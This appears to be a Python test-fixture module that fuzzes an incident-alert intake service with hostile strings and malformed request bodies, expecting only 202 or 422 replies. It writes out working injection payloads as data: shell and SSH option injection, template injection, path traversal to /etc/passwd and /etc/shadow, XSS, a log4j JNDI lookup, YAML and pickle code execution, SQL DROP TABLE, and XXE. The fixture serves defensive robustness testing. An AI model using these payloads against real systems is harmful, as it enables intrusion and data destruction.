"""Hostile alerts: text that some program on the way might run, fill in, follow, obey or choke on."""

from __future__ import annotations

import json
from typing import Any

TEXTS = {
    "shell": "web-1; touch /tmp/irflow-pwned; $(touch /tmp/irflow-pwned) `touch /tmp/irflow-pwned` | sh",
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "expression": "{{ incident.hosts }} ${7*7} #{7*7} <%= 7*7 %> %(asctime)s {0.__class__}",
    "path": "../../../../etc/passwd",
    "absolute path": "/etc/shadow\x00.md",
    "option": "-oProxyCommand=touch /tmp/irflow-pwned",
    "long option": "--epoch=99999999999999",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>&lt;",
    "markdown": "[x](javascript:alert(1)) ![](http://192.0.2.66/x) | a | b |\n---\n# done",
    "mail header": "x\r\nBcc: all@example.com\r\n\r\nbody",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b2J",
    "direction": "web-1\u202e1-bew\u2066 \u200b\ufeff\u2028\u2029",
    "look-alike": "wеb-1",  # Cyrillic e
    "zero": "\x00web-1\x00",
    "half a character": "\ud800\udfff\ud83d",
    "not a character": "\ufffe\uffff\U0010ffff",
    "combining": "e" + "\u0301" * 5000,
    "long": "A" * 60_000,
    "sql": "'; DROP TABLE events; --",
    "log4j": "${jndi:ldap://192.0.2.66/a}",
    "yaml": "!!python/object/apply:os.system ['touch /tmp/irflow-pwned']",
    "empty": "",
    "space": " \t\n ",
    "all": "*",
    "every address": "0.0.0.0/0",
}
"""What stands in every field that takes text."""


def alert(text: str) -> dict[str, Any]:
    """An alert with the text in every place, and a host that exists."""
    return {
        "type": text or "x", "severity": "critical", "title": text, "summary": text, "hosts": [text, "web-1"],
        "addresses": [text], "accounts": [text], "labels": {text: text}, "fingerprint": text,
    }  # fmt: skip


def bodies() -> dict[str, bytes]:
    """Bodies that are odd as a whole. Each must be answered with 202 or 422, never with 5xx."""
    plain = json.dumps(alert("x"))[:-1]
    return {
        "nothing": b"",
        "deep lists": b"[" * 100_000 + b"]" * 100_000,
        "deep objects": b'{"alerts":' * 100_000,
        "deep in a field": (plain + ', "labels": ' + '{"a":' * 5000 + "1" + "}" * 5001).encode(),
        "huge integer": b'{"type": "x", "labels": {"n": ' + b"9" * 100_000 + b"}}",
        "huge exponent": b'{"type": "x", "labels": {"n": 1e999999999}}',
        "not a number": b'{"type": "x", "labels": {"n": NaN}}',
        "two meanings": b'{"type": "system_compromise", "type": "x", "hosts": ["web-1"], "hosts": ["db-1"]}',
        "two meanings, escaped": b'{"hosts": ["web-1"], "h\\u006fsts": ["db-1"], "type": "system_compromise"}',
        "not UTF-8": b'{"type": "\xff\xfe"}',
        "UTF-16": '{"type": "x"}'.encode("utf-16"),
        "UTF-32": '{"type": "x"}'.encode("utf-32"),
        "overlong": b'{"type": "\xc0\xaf\xc0\xae"}',
        "two bodies": b'{"type": "x"}{"type": "y"}',
        "many alerts": b'{"alerts": [' + b",".join([b'{"type": "x"}'] * 5000) + b"]}",
        "many hosts": json.dumps({"type": "x", "hosts": [f"h{n}" for n in range(20_000)]}).encode(),
        "many labels": json.dumps({"type": "x", "labels": {f"l{n}": n for n in range(20_000)}}).encode(),
        "many keys": json.dumps({f"k{n}": n for n in range(50_000)}).encode(),
        "ten megabytes": json.dumps({"type": "x", "summary": "A" * (10 << 20)}).encode(),
        "ten megabytes of brackets": b"[" + b"[]," * (3 << 20) + b"[]]",
        "form": b"type=x&hosts=web-1",
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
        "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    }
